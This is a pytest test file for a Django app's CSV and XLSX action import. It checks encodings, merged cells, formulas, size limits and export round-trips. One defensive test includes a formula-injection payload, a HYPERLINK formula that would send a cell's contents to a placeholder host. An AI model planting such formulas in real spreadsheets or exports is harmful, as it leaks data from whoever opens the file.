"""Files the import refuses with a clear French message, saving nothing: wrong encoding, merged cells, formulas,
an empty sheet, a formula-injection payload, too many rows or bytes; and those it reads despite their quirks
(Windows-1252, `;`, a BOM, 10,000 empty rows, the people's XLSX export)."""

import io

import pytest
from django.core.management import call_command
from django.test import override_settings
from openpyxl import Workbook
from openpyxl.styles import Font

from pilotactions.accounts.services import system_role
from pilotactions.contracts.importing import ImportFileError, import_file, read_table
from pilotactions.contracts.models import Action, Contract
from tests.contracts.test_import import export, run_import, small_data_set, wipe_contracts
from tests.factories import make_contract

pytestmark = pytest.mark.django_db

HEADER = ["Référence du contrat", "Intitulé", "Axe", "Crédits de l’État (€)", "Date de début"]


def xlsx(tmp_path, rows, name="actions.xlsx", prepare=None):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Actions"
    for row in rows:
        sheet.append(row)
    if prepare:
        prepare(sheet)
    path = tmp_path / name
    workbook.save(path)
    return path


def csv_file(tmp_path, text, encoding="utf-8", name="actions.csv"):
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def refused(path, *fragments):
    with pytest.raises(ImportFileError) as error:
        import_file(path, role=system_role(), year=2024)
    for fragment in fragments:
        assert fragment in str(error.value)
    return str(error.value)


@pytest.fixture
def contract():
    return make_contract("59")


def good_rows(contract):
    return [HEADER, [contract.reference, "Épicerie solidaire", "AXE1", "1 234,56 €", "03/02/2025"]]


def test_a_good_xlsx_imports(tmp_path, contract):
    result = import_file(xlsx(tmp_path, good_rows(contract)), role=system_role(), year=2024)
    assert result.ok and result.total("created") == 1
    action = Action.objects.get(contract=contract)
    assert action.title == "Épicerie solidaire"
    assert str(action.start_date) == "2025-02-03"
    assert str(action.years.get(year=2024).planned_state) == "1234.56"


def test_windows_1252_and_semicolons_are_read(tmp_path, contract):
    text = (
        "Référence du contrat;Intitulé;Axe;Crédits de l’État (€)\r\n"
        + f"{contract.reference};Aide à l’énergie;AXE1;1 000,50\r\n"
    )
    result = import_file(csv_file(tmp_path, text.replace("’", "'"), "cp1252"), role=system_role(), year=2024)
    assert result.ok, result.errors
    assert Action.objects.get(contract=contract).title == "Aide à l'énergie"


def test_utf8_with_bom_and_commas_are_read(tmp_path, contract):
    text = "\ufeffcontract_id,title,axis\n" + f"{contract.reference},Café social,AXE1\n"
    assert import_file(csv_file(tmp_path, text), role=system_role(), year=2024).ok
    assert Action.objects.get(contract=contract).title == "Café social"


def test_wrong_encoding_is_refused(tmp_path, contract):
    text = f"contract_id,title,axis\n{contract.reference},Café,AXE1\n"
    refused(csv_file(tmp_path, text, "utf-16"), "UTF-16", "CSV UTF-8")
    path = tmp_path / "bad.csv"
    path.write_bytes(b"contract_id,title,axis\nX,Caf\x81,AXE1\n")
    refused(path, "ni en UTF-8 ni en Windows-1252", "0x81")
    assert not Action.objects.exists()


def test_merged_cells_are_refused(tmp_path, contract):
    path = xlsx(tmp_path, good_rows(contract), prepare=lambda sheet: sheet.merge_cells("B2:C2"))
    refused(path, "fusionnées", "B2:C2")
    assert not Action.objects.exists()


def test_formulas_are_refused_never_evaluated(tmp_path, contract):
    rows = good_rows(contract)
    rows[1][3] = "=1000+234.56"
    refused(xlsx(tmp_path, rows), "formule", "D2", "Collage spécial")
    assert not Action.objects.exists()


def test_empty_sheet_and_header_only_are_refused(tmp_path):
    refused(xlsx(tmp_path, []), "aucune ligne")
    refused(xlsx(tmp_path, [HEADER], name="header.xlsx"), "qu’une ligne d’en-tête")
    refused(csv_file(tmp_path, ""), "est vide")
    refused(csv_file(tmp_path, ";;;\n;;;\n", name="blank.csv"), "aucune ligne")


def test_ten_thousand_empty_rows_are_skipped(tmp_path, contract):
    def formatted_empty_rows(sheet):
        for row in range(3, 10_003):
            sheet.cell(row=row, column=1).font = Font(bold=True)  # a formatted, empty cell

    path = xlsx(tmp_path, good_rows(contract), prepare=formatted_empty_rows)
    table = read_table(path)
    assert len(table.rows) == 1
    result = import_file(path, role=system_role(), year=2024)
    assert result.ok and result.total("created") == 1
    text = "contract_id,title,axis\n" + f"{contract.reference},Halte de nuit,AXE1\n" + ",,\n" * 10_000
    assert len(read_table(csv_file(tmp_path, text)).rows) == 1


def test_equal_short_cells_are_one_text_in_memory(tmp_path):
    """A national file repeats its codes and labels on every row: each is kept once (memory, docs/performance.md)."""
    long = "x" * 100
    text = "contract_id,title,axis\n" + f"CLS-2024-59, {long} ,AXE1\n" * 2
    first, second = (cells for _line, cells in read_table(csv_file(tmp_path, text)).rows)
    assert first == second == ["CLS-2024-59", long, "AXE1"]
    assert first[0] is second[0] and first[2] is second[2]
    assert first[1] is not second[1]  # a long text (a description) is rarely repeated: not looked up


def test_formula_injection_payload_is_refused_and_nothing_saved(tmp_path, contract):
    text = (
        "contract_id,title,axis\n"
        f"{contract.reference},Une bonne ligne,AXE1\n"
        f'{contract.reference},"=HYPERLINK(""http://example.test/?""&A1;""clic"")",AXE1\n'
        f"{contract.reference},@SUM(1+1),AXE1\n"
    )
    _out, err = run_import(csv_file(tmp_path, text), expect_exit=1)
    assert "ligne 3, colonne « Intitulé » : « =HYPERLINK(" in err
    assert "une formule n’est jamais importée" in err
    assert "ligne 4, colonne « Intitulé » : « @SUM(1+1) » commence par « @ »" in err
    assert not Action.objects.exists()  # all or nothing: the good line is not saved either
    # Written as our exports write text (an apostrophe first), it is text, kept as typed.
    text = f"contract_id,title,axis\n{contract.reference},'=1+1 n’est pas une formule,AXE1\n"
    assert import_file(csv_file(tmp_path, text, name="safe.csv"), role=system_role(), year=2024).ok
    assert Action.objects.get().title == "=1+1 n’est pas une formule"


def test_limits_of_rows_and_bytes(tmp_path, contract):
    text = "contract_id,title,axis\n" + "".join(f"{contract.reference},Action {n},AXE1\n" for n in range(4))
    path = csv_file(tmp_path, text)
    with override_settings(IMPORT_MAX_ROWS=3):
        refused(path, "plus de 3 lignes", "Découpez-le")
    with override_settings(IMPORT_MAX_BYTES=50):
        refused(path, "Mo au plus")
    assert not Action.objects.exists()


def test_xls_and_unreadable_workbooks_are_refused(tmp_path):
    path = tmp_path / "old.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100)
    refused(path, ".xlsx")
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    refused(broken, "lisible")


def test_unknown_columns_are_listed_and_no_known_column_is_refused(tmp_path, contract):
    text = f"contract_id,title,axis,Commentaire interne\n{contract.reference},Action,AXE1,rien\n"
    result = import_file(csv_file(tmp_path, text), role=system_role(), year=2024)
    assert result.ignored_columns == ["Commentaire interne"]
    refused(csv_file(tmp_path, "Colonne A,Colonne B\n1,2\n", name="other.csv"), "aucune colonne reconnue")


def test_the_people_xlsx_export_imports_back(tmp_path):
    small_data_set()
    Action.objects.filter(title__startswith="=").delete()  # the XLSX holds it as text: an import refuses it
    first = export(tmp_path)
    people = tmp_path / "people.xlsx"
    call_command("export_actions", year=2024, format="xlsx", out=str(people), stderr=io.StringIO())
    wipe_contracts()
    result = import_file(people, role=system_role(), year=2024)
    assert result.ok, [str(e) for e in result.errors]
    assert export(tmp_path, "again.csv").read_bytes() == first.read_bytes()
    assert Contract.objects.count() == 3
